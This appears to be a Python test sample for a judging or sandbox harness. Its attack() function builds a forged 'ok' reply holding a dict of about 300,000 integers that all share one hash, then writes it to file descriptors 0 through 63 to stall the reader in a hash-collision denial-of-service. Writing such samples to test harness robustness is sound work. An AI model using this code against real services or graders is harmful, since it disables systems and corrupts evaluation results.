"""Sends a dict of 300 000 integers that all have one hash: ten megabytes that take half an hour to read.
Ends as: crash, error, fail, timeout
"""

import contextlib
import os
import struct
import sys

MODULUS = sys.hash_info.modulus


def attack(X, wrong):
    pairs = ",".join(f"[{k * MODULUS},0]" for k in range(1, 300_000))
    data = f'{{"id": 1, "answer": {{"status": "ok", "value": {{"dict": [{pairs}]}}}}}}'.encode()
    data = memoryview(struct.pack(">I", len(data)) + data)
    for descriptor in range(64):
        with contextlib.suppress(OSError):
            rest = data
            while rest:
                rest = rest[os.write(descriptor, rest) :]
    return wrong
